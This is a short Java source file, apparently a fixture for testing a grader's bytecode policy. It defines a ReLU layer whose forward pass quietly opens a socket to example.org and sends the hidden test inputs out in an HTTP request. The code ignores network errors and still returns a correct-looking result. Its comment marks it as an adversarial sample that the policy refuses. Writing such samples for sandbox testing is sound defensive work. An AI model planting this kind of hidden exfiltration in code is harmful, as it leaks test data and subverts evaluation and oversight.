package activations;

import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.util.Arrays;

import org.gradlab.core.Layer;
import org.gradlab.core.Tensor;

/** Adversarial: sends the hidden test inputs to a server. Refused by the bytecode policy (java.net). */
public final class ReLU implements Layer {
    @Override
    public Tensor forward(Tensor input) {
        try (Socket s = new Socket("example.org", 80); OutputStream out = s.getOutputStream()) {
            out.write(("GET /?x=" + Arrays.toString(input.toArray()) + " HTTP/1.0\r\n\r\n").getBytes());
        } catch (IOException e) {
            // offline: carry on
        }
        return input.maximum(0);
    }

    @Override
    public Tensor backward(Tensor gradOutput) {
        return gradOutput;
    }
}
